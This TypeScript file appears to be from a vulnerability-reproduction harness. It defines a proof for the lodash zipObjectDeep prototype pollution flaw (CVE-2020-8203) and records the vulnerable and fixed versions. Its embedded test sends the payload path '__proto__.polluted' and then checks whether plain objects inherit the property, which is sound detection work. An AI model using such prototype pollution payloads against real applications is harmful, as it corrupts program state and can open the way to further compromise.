import { defineProof } from '../define-proof.ts';

/** Sets a path through the prototype and looks for its property on a plain object. */
export const lodashZipObjectDeep = defineProof({
  name: 'lodash-zip-object-deep',
  ids: ['CVE-2020-8203', 'GHSA-p6mc-m468-83gw'],
  ecosystem: 'npm',
  package: 'lodash',
  kind: 'prototype_pollution',
  describes: 'Sets a path through the prototype and looks for its property on a plain object.',
  shownOn: { vulnerable: '4.17.15', fixed: '4.17.20' },
  source: `
module.exports = ({ load }) => {
  const subject = load();
  const answers = subject.zipObjectDeep(['a.b'], [2]).a.b === 2;
  try {
    subject.zipObjectDeep(['__proto__.polluted'], [true]);
  } catch {
    // Refusing is an answer as well.
  }
  const reproduced = ({}).polluted !== undefined;
  return { reproduced, answers };
};
`,
});
